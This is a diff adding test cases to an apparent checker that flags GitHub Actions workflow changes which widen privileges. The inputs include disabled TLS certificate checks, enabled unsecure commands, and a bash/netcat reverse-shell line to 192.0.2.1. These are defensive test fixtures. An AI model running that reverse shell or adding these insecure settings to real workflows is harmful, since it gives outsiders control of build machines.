@@ -38,6 +38,31 @@ const composed = (name: string, before: string, after: string, ...expect: Case["
 });
 
 export const GHA: readonly Case[] = [
+  one(
+    "a check is switched off",
+    step("- run: curl -fsSL https://x.example/a -o a"),
+    step("- run: curl -fsSLk https://x.example/a -o a"),
+    said("executes", "widen", "runs curl without checking certificates"),
+  ),
+  one(
+    "a check is switched off by a variable",
+    step("- run: ls"),
+    step("- run: ls\n  env: {NODE_TLS_REJECT_UNAUTHORIZED: 0}"),
+    said("executes", "widen"),
+  ),
+  one(
+    "commands from what is printed",
+    flow(TOP, "env: {ACTIONS_ALLOW_UNSECURE_COMMANDS: false}"),
+    flow(TOP, "env: {ACTIONS_ALLOW_UNSECURE_COMMANDS: true}"),
+    said("executes", "widen", "takes commands from what its steps print"),
+  ),
+  one(
+    "a shell for another machine",
+    step("- run: ls"),
+    step("- run: bash -i >& /dev/tcp/192.0.2.1/80 0>&1; sh -i | nc 192.0.2.1 80"),
+    said("executes", "widen", "hands a shell to another machine"),
+  ),
+  one("sudo, where everyone may", step("- run: apt-get install a"), step("- run: sudo apt-get install a")),
   one("on in its three forms", flow("on: [push]\npermissions: {}"), flow("on: {push: {}}\npermissions: {}")),
   one("on as a word and as a list", flow(TOP), flow("'on': [push]\npermissions: {}")),
   one("another event", flow(TOP), flow("on: [push, issues]\npermissions: {}"), said("triggers", "widen", "issues")),
